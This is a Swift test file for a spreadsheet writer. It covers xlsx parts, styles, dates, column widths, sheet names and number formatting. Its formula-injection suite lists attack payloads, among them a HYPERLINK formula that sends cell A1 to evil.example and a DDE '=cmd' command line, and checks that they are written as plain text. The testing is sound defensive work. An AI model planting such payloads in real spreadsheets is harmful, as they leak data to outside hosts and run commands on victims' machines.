import Foundation
import Testing

@testable import Spreadsheet

@Suite("Writer output")
struct WriterFormatTests {
  private let data: Data

  init() throws {
    data = try SpreadsheetWorkbook(sheets: [
      SpreadsheetSheet(
        name: "Report",
        rows: [
          [.text("Name"), .date(year: 2026, month: 1, day: 2)], [.text("x"), .date(year: 2026, month: 11, day: 23)],
        ],
        columnWidths: [20, 0, 12.5]),
      SpreadsheetSheet(name: "Plain", rows: [[.text("not bold")]], boldFirstRow: false),
    ]).xlsxData()
  }

  @Test func packageHasTheRequiredParts() throws {
    for path in [
      "[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml",
      "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml",
    ] {
      #expect(try TestSupport.part(path, of: data).hasPrefix("<?xml version=\"1.0\" encoding=\"UTF-8\""))
    }
    let contentTypes = try TestSupport.part("[Content_Types].xml", of: data)
    #expect(contentTypes.contains("PartName=\"/xl/worksheets/sheet2.xml\""))
  }

  @Test func stylesDefineBoldAndDateFormats() throws {
    let styles = try TestSupport.part("xl/styles.xml", of: data)
    #expect(styles.contains("<font><b/>"))
    #expect(styles.contains("formatCode=\"yyyy-mm-dd\""))
    #expect(styles.contains("<cellXfs count=\"4\">"))
  }

  @Test func headerRowIsBoldAndDatesUseTheDateStyle() throws {
    let sheet = try TestSupport.part("xl/worksheets/sheet1.xml", of: data)
    #expect(sheet.contains("<c r=\"A1\" s=\"1\" t=\"inlineStr\">"))
    #expect(sheet.contains("<c r=\"B1\" s=\"3\"><v>46024</v></c>"))
    #expect(sheet.contains("<c r=\"A2\" t=\"inlineStr\">"))
    #expect(sheet.contains("<c r=\"B2\" s=\"2\"><v>46349</v></c>"))
    let plain = try TestSupport.part("xl/worksheets/sheet2.xml", of: data)
    #expect(!plain.contains("s=\"1\""))
  }

  @Test func columnWidthsSkipUnusableValues() throws {
    let sheet = try TestSupport.part("xl/worksheets/sheet1.xml", of: data)
    let expected =
      "<cols><col min=\"1\" max=\"1\" width=\"20\" customWidth=\"1\"/>"
      + "<col min=\"3\" max=\"3\" width=\"12.5\" customWidth=\"1\"/></cols><sheetData>"
    #expect(sheet.contains(expected))
  }

  @Test func sheetNamesAreEscapedInWorkbook() throws {
    let data = try SpreadsheetWorkbook(sheets: [SpreadsheetSheet(name: "R&D <\"x\">")]).xlsxData()
    #expect(try TestSupport.part("xl/workbook.xml", of: data).contains("name=\"R&amp;D &lt;&quot;x&quot;&gt;\""))
    #expect(try SpreadsheetReader.sheetNames(in: data) == ["R&D <\"x\">"])
  }

  @Test func sheetNameSanitising() {
    let long = String(repeating: "长", count: 40)
    let names = SheetNames.uniqueNames([long, long, "a\u{1}b", "'quoted'", "History", "DATA", "data", "Sheet3"])
    #expect(names[0] == String(repeating: "长", count: 31))
    #expect(names[1] == String(repeating: "长", count: 27) + " (2)")
    #expect(Array(names[2...]) == ["ab", "quoted", "Sheet5", "DATA", "data (2)", "Sheet3"])
    #expect(names.allSatisfy { $0.utf16.count <= 31 })
  }

  @Test func overlongTextIsCutToExcelsLimit() throws {
    let rows = try TestSupport.roundTrip([[.text(String(repeating: "ab", count: 20_000))]])
    #expect(rows[0][0].utf16.count == WorksheetWriter.maxTextLength)
  }

  @Test func numberText() {
    #expect(CellValues.numberText(13_800_138_000) == "13800138000")
    #expect(CellValues.numberText(-0.0) == "0")
    #expect(CellValues.numberText(0.1) == "0.1")
    #expect(CellValues.numberText(1e20) == "1E+20")
    #expect(CellValues.numberText(1234567.5) == "1234567.5")
  }

  @Test func readerNormalisesIntegralNumbers() {
    #expect(CellValues.normalisedNumber("1.3800138E10") == "13800138000")
    #expect(CellValues.normalisedNumber("13800138000.0") == "13800138000")
    #expect(CellValues.normalisedNumber("99.95") == "99.95")
    #expect(CellValues.normalisedNumber("1E+20") == "1E+20")
    #expect(CellValues.normalisedNumber("abc") == "abc")
  }

  @Test func columnReferences() {
    #expect(CellReference.columnName(0) == "A")
    #expect(CellReference.columnName(25) == "Z")
    #expect(CellReference.columnName(26) == "AA")
    #expect(CellReference.columnName(16_383) == "XFD")
    #expect(CellReference.columnIndex(of: "XFD1048576") == 16_383)
    #expect(CellReference.columnIndex(of: "$AB$12") == 27)
    #expect(CellReference.columnIndex(of: "XFE1") == nil)
    #expect(CellReference.columnIndex(of: "12") == nil)
  }
}

@Suite("Writer: formula injection")
struct WriterFormulaInjectionTests {
  @Test("Text that looks like a formula is written as an inline string, never as a formula cell")
  func formulasStayText() throws {
    let payloads = [
      #"=HYPERLINK("http://evil.example/?d="&A1,"点击")"#, "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1",
      "\r=1+1",
    ]
    let data = try SpreadsheetWorkbook(sheets: [
      SpreadsheetSheet(name: "S", rows: payloads.map { [.text($0), .number(-12.5), .integer(-3)] }, boldFirstRow: false)
    ]).xlsxData()
    let xml = try TestSupport.part("xl/worksheets/sheet1.xml", of: data)
    #expect(!xml.contains("<f>") && !xml.contains("<f "))
    #expect(xml.components(separatedBy: "t=\"inlineStr\"").count - 1 == payloads.count)
    // Negative numbers stay numbers.
    #expect(xml.contains("<v>-12.5</v>") && xml.contains("<v>-3</v>"))
    let rows = try SpreadsheetReader.rows(in: data)
    #expect(rows.map { $0[0] } == payloads)
  }
}
